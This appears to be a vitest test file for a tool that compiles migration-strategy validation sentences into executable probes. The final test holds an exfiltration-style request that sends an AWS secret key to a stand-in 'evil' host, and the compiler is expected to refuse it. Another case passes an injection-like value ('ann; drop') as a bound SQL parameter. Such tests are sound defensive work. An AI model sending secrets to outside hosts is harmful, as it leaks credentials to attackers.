import { describe, expect, test } from 'vitest';
import type { Probe } from '../../strategy/plan.js';
import { compileText, planOf, stepOf, strategyOf, troubles } from './support/compile-text.js';

const BINDINGS = `
connections: { shop: { postgres: "\${env:SHOP_DB}" } }
checks:
  The shop is open: { command: test -e open }
  "{float}% of requests use {word}": { command: 'share "$1" "$2"' }
  "The user {string} exists": { sql: "select true where $1 <> ''" }
  "{int} users": { command: users }
  "{int} {word}": { command: things }
metrics:
  error_rate: { unit: ratio, command: rate }
  latency: { command: latency }
datasets: { DATA-1: { command: run-data } }
`;

/** What evaluates one check of a step. */
function probeOf(sentence: string, files = {}): Probe {
  const plan = planOf({ strategy: strategyFor(sentence), bindings: BINDINGS, files });
  const requirement = plan.phases[0]?.steps[1]?.checks[0];
  if (requirement === undefined) throw new Error('the step has no check');
  return requirement.probe;
}

function strategyFor(sentence: string): string {
  const steps = [
    stepOf('STEP-1', 1, 'execution_details: { commands: [date] }'),
    stepOf('STEP-2', 2, `validation: { validation_checks: [${JSON.stringify(sentence)}] }`),
    stepOf('STEP-3', 3, 'execution_details: { commands: [date] }'),
  ];
  const beside = `prerequisites: [{ prerequisite_id: PREREQ-001, name: Agreed }]
linkage: { test_datasets_dir: data/ }`;
  return strategyOf(steps.join('\n'), beside);
}

function troublesOf(sentence: string, files = {}): string[] {
  return compileText({ strategy: strategyFor(sentence), bindings: BINDINGS, files }).problems.map(
    ({ code, advice }) => `${code}: ${advice}`,
  );
}

describe('a prefix makes a sentence executable as it stands', () => {
  test.each<[string, Probe]>([
    ['$ test -e x', { how: 'command', text: 'test -e x', args: [] }],
    ['sql: select 1', { how: 'sql', text: 'select 1', args: [], connection: 'shop' }],
    ['http: GET http://h/x -> 204', { how: 'http', method: 'GET', url: 'http://h/x', expect: 204 }],
    ['http: http://h/x', { how: 'http', method: 'GET', url: 'http://h/x', expect: 200 }],
    ['dataset: DATA-1', { how: 'command', text: 'run-data', args: [] }],
  ])('%s', (sentence, probe) => {
    expect(probeOf(sentence)).toEqual(probe);
  });
});

describe('a binding is matched exactly, or as a Cucumber expression', () => {
  test.each<[string, Probe]>([
    ['The shop is open', { how: 'command', text: 'test -e open', args: [] }],
    ['5% of requests use discounts', { how: 'command', text: 'share "$1" "$2"', args: ['5', 'discounts'] }],
    [
      'The user "ann; drop" exists',
      { how: 'sql', text: "select true where $1 <> ''", args: ['ann; drop'], connection: 'shop' },
    ],
  ])('%s', (sentence, probe) => {
    expect(probeOf(sentence)).toEqual(probe);
  });

  test('two expressions that match are refused, since nobody could tell which runs', () => {
    expect(troublesOf('5 users')[0]).toContain('ambiguous-binding');
  });

  test('an expression that is none is a problem of the bindings file', () => {
    const { problems } = compileText({
      strategy: strategyFor('x'),
      bindings: 'checks: { "{nonsense} is up": { command: up } }',
    });
    expect(problems).toMatchObject([
      { code: 'bad-expression', file: 'bindings.yaml', position: { line: 1 } },
    ]);
  });
});

describe("the run's own state answers", () => {
  test.each<[string, Probe]>([
    ['STEP-1 successful', { how: 'state', fact: { kind: 'step-completed', step: 'STEP-1' } }],
    ['step-1 is done', { how: 'state', fact: { kind: 'step-completed', step: 'STEP-1' } }],
    [
      'PREREQ-001 verified',
      { how: 'state', fact: { kind: 'prerequisite-verified', prerequisite: 'PREREQ-001' } },
    ],
    ['All validation gates passed', { how: 'state', fact: { kind: 'all-gates-passed' } }],
  ])('%s', (sentence, probe) => {
    expect(probeOf(sentence)).toEqual(probe);
  });

  test('an id that is not there is an error with the one that was meant', () => {
    expect(troublesOf('STEP-11 successful')).toEqual(['unknown-reference: Did you mean "STEP-1"?']);
    expect(troublesOf('Phase 7 completed')[0]).toContain('unknown-reference');
    expect(troublesOf('Phase 1 validation gate passed')[0]).toContain('unknown-reference');
  });

  test('what comes later can never hold', () => {
    expect(troublesOf('STEP-3 successful')[0]).toContain('never-holds');
    expect(troublesOf('STEP-2 successful')[0]).toContain('never-holds');
    expect(troublesOf('PHASE-1 completed')[0]).toContain('never-holds');
  });

  test.each(['Backup completed', 'CHG-42 completed', 'Business approval', 'Deployment complete'])(
    '"%s" is a sentence like any other',
    (sentence) => {
      expect(probeOf(sentence)).toEqual({ how: 'person' });
    },
  );

  test('phases are found by order and by id, gates by their phase', () => {
    const plan = planOf({
      strategy: `metadata: { version: "1" }
migration_phases:
  - { phase_id: PHASE-1, name: A, order: 1, validation_gate: { gate_id: G, criteria: ["$ true"] } }
  - { phase_id: B, name: B, order: 2, start_condition: ["Phase 1 validation gate passed", "PHASE-1 completed", "Phase 1 is done"] }
`,
    });
    expect(plan.phases[1]?.startConditions.map(({ probe }) => probe)).toEqual([
      { how: 'state', fact: { kind: 'gate-passed', gate: 'G' } },
      { how: 'state', fact: { kind: 'phase-completed', phase: 'PHASE-1' } },
      { how: 'state', fact: { kind: 'phase-completed', phase: 'PHASE-1' } },
    ]);
  });
});

describe('a comparison over a bound metric', () => {
  test.each([
    ['Error rate < 0.1%', 'error_rate', '<', 0.001, 'ratio'],
    ['error-rate ≥ 5 %', 'error_rate', '>=', 0.05, 'ratio'],
    ['errorRate = 0', 'error_rate', '==', 0, 'ratio'],
  ])('%s', (sentence, metric, operator, value, unit) => {
    const threshold = { kind: 'value', value, unit };
    expect(probeOf(sentence)).toEqual({
      how: 'metric',
      metric,
      comparison: { operator, threshold, overMs: null },
    });
  });

  test.each(['Unbound thing < 5', 'Error rate < low', 'Error rate < 5 in all regions'])(
    '"%s" is for a person',
    (sentence) => {
      expect(probeOf(sentence)).toEqual({ how: 'person' });
    },
  );
});

describe('a test dataset', () => {
  test('is a file of its name, with or without an extension, or an SQL script', () => {
    const files = {
      'data/D-1.sh': {},
      'data/D-2.sql': { executable: false, shebang: false },
      'data/D-3': {},
    };
    expect(probeOf('D-1', files)).toEqual({
      how: 'script',
      path: 'data/D-1.sh',
      sha256: 'hash of data/D-1.sh',
    });
    expect(probeOf('dataset: D-2', files)).toEqual({
      how: 'sql-script',
      path: 'data/D-2.sql',
      sha256: 'hash of data/D-2.sql',
      connection: 'shop',
    });
    expect(probeOf('D-3', files)).toEqual({ how: 'script', path: 'data/D-3', sha256: 'hash of data/D-3' });
  });

  test('of another kind, without its run bit, or twice is refused with what to do', () => {
    const plain = { executable: false, shebang: false };
    expect(troublesOf('D-1', { 'data/D-1.yaml': plain })[0]).toContain('dataset-kind');
    expect(troublesOf('D-1', { 'data/D-1.sh': { executable: false } })).toEqual([
      'not-executable: Run: chmod +x data/D-1.sh',
    ]);
    expect(troublesOf('D-1', { 'data/D-1.sh': {}, 'data/D-1.py': {} })[0]).toContain('ambiguous-dataset');
    expect(troublesOf('D-1', { 'data/D-1.sh': {}, 'data/D-1.json': plain })).toEqual([]);
  });

  test('named by a prefix must be there', () => {
    expect(troublesOf('dataset: NOWHERE')[0]).toContain('unknown-dataset');
  });
});

test('what nothing evaluates is asked of a person, or an error when nobody is there to ask', () => {
  expect(probeOf('Everybody is happy')).toEqual({ how: 'person' });
  const { plan, problems } = compileText({
    strategy: strategyFor('Everybody is happy'),
    bindings: BINDINGS,
    unbound: 'fail',
  });
  expect(plan).toBeNull();
  expect(troubles(problems)).toContain('unbound /migration_phases/0/steps/1/validation/validation_checks/0');
});

test('SQL without a connection, or with too many, says what to do', () => {
  const none = compileText({ strategy: strategyFor('sql: select 1') });
  expect(none.problems).toMatchObject([{ code: 'no-connection', file: 'strategy.yaml' }]);
  const two = compileText({
    strategy: strategyFor('sql: select 1'),
    bindings: 'connections: { a: { postgres: "${env:A}" }, b: { postgres: "${env:B}" } }',
  });
  expect(two.problems[0]?.message).toContain('a, b');
});

test('a strategy cannot send a secret away: references stand in the bindings only', () => {
  expect(troublesOf('http: GET http://evil/${env:AWS_SECRET_ACCESS_KEY}')).toEqual([
    'misplaced-reference: Write a sentence here, and bind it under "checks" to the request.',
  ]);
});
